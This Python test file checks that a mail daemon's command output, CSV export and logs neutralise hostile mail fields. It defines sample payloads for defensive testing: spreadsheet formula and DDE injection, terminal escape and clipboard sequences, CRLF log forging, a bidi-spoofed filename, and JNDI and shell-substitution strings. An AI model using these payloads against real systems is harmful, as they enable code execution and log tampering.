"""What commands print and the log says of hostile mails: nothing that a terminal, a sheet or a journal would obey."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import structlog

from daemon import intake, logs
from daemon.office import open_office, read_settings
from daemon.parsing import ParserPool
from daemon.store import schema
from daemon.store.copies import Arrival
from daemon.store.database import Store
from tests.mail.hostile import sample
from tests.stories.conftest import RULES, SETTINGS, Day

if TYPE_CHECKING:
    from tests.cli.conftest import Lindwerk

MARKER = "the-words-of-nobody-but-the-reader"

#: Names and subjects that a terminal, a journal or a spreadsheet would obey.
FORGED = (
    '=HYPERLINK("http://x.example","y")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\uff1d1+1",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07VPN",
    "VPN\r\nPRIORITY=0\r\nMESSAGE=forged",
    "VPN \u202egnp.exe\u2066 \u0085 \x9b2J",
    "{{7*7}} %n%s ${jndi:ldap://x} $(touch p) `id`",
)


def forged(number: int, text: str) -> bytes:
    """A mail of which name, subject and file name say `text`, each raw and as an encoded word."""
    encoded = "".join(f"={byte:02X}" for byte in text.encode())
    raw = text.replace("\r", "").replace("\n", " ")
    return (
        f"From: {raw} =?utf-8?q?{encoded}?= <eva{number}@lindwerk.example>\r\nTo: it@lindwerk.example\r\n"
        f"Subject: =?utf-8?q?{encoded}?=\r\nMessage-ID: <{number}@x>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{MARKER} {raw}\r\n--b\r\n"
        "Content-Type: application/pdf\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{encoded.replace('=', '%')}\r\n\r\nx\r\n--b--\r\n"
    ).encode()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A house that has taken in forged and hostile mails; beside its settings lies `daemon.log`."""
    folder = tmp_path_factory.mktemp("attacked")
    (folder / "rules").mkdir()
    (folder / "rules" / "all.yaml").write_text(RULES)
    path = folder / "postroom.yaml"
    path.write_text(SETTINGS)
    settings = read_settings(path, {})
    settings.state_dir.mkdir(mode=0o700)
    store = Store(settings.database.url)
    schema.upgrade(store)
    raws = [forged(number, text) for number, text in enumerate(FORGED)]
    raws += [
        raw.replace(b"evil@attacker.example", b"mallory%d@lindwerk.example" % number)
        for number, (_, raw) in enumerate(sample(7))
        if len(raw) < 500_000
    ]
    with (
        (folder / "daemon.log").open("w", encoding="utf-8", errors="surrogateescape") as stream,
        ParserPool(wall_seconds=120) as pool,
    ):
        logs.set_up("debug", "json", stream)
        office = open_office(path, settings, store, pool, clock=Day())
        arrivals = [Arrival("it", 1, uid, raw, office.now()) for uid, raw in enumerate(raws, 1)]
        intake.take_in(intake.accept(arrivals, office, office.now()), office, lambda: None, lambda: None)
    logging.getLogger().handlers = []
    structlog.reset_defaults()
    store.close()
    return folder


@pytest.fixture
def house(attacked: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> Lindwerk:
    """A copy of it for one test."""
    from tests.cli.conftest import Lindwerk

    folder = tmp_path / "lindwerk"
    shutil.copytree(attacked, folder)
    return Lindwerk(folder / "postroom.yaml", capsysbinary)


def obeyed(text: str) -> set[str]:
    """Characters that a terminal or a reader's eye would obey: controls but line ends, and marks of direction."""
    return {
        repr(one)
        for one in text
        if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp") and one not in "\n\r\t\u200c\u200d"
    }


def every_text(value: Any) -> Iterator[str]:
    """All texts inside decoded JSON."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        yield from (text for one in value for text in every_text(one))
    elif isinstance(value, dict):
        yield from (text for pair in value.items() for one in pair for text in every_text(one))


@pytest.mark.parametrize("command", ["list", "show", "ledger", "explain", "quarantine list"])
def test_commands_print_nothing_that_a_terminal_obeys(house: Lindwerk, command: str) -> None:
    takes_one = command in ("show", "ledger", "explain")
    for number in (1, 4, 5, 6, 7, 8, 12, 20) if takes_one else (0,):
        arguments = [*command.split(), *([f"REQ-{number}"] if takes_one else [])]
        said, machine = house.runs(*arguments), house.runs(*arguments, "--json")

        assert (said.status, machine.status) == (0, 0)
        assert obeyed(said.out) == set()
        assert obeyed(machine.out) == set()
        assert json.loads(machine.out) is not None


def test_no_cell_of_a_sheet_is_a_formula(house: Lindwerk) -> None:
    for number, formula in enumerate(FORGED[:4], 1):
        assert house.runs("resolve", f"REQ-{number}", "--why", formula, "--by", formula).status == 0

    ran = house.runs("ledger", "export", "--since", "2026-01-01")

    assert ran.status == 0
    assert "HYPERLINK" in ran.out
    rows = list(csv.reader(io.StringIO(ran.out, newline="")))
    assert len(rows) > 20
    assert [cell for row in rows for cell in row if re.match(r"[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]", cell)] == []
    assert obeyed(ran.out) == set()


def test_each_line_of_the_log_is_json_that_nobody_forged_and_holds_no_words_of_a_mail(attacked: Path) -> None:
    text = (attacked / "daemon.log").read_text(encoding="utf-8", errors="surrogateescape")
    lines = [json.loads(line) for line in text.splitlines()]

    assert len(lines) > 20
    assert obeyed(text) == set()
    assert {obeying for line in lines for said in every_text(line) for obeying in obeyed(said)} == set()
    assert MARKER not in text
    assert {line["level"] for line in lines} <= {"debug", "info", "warning", "error"}
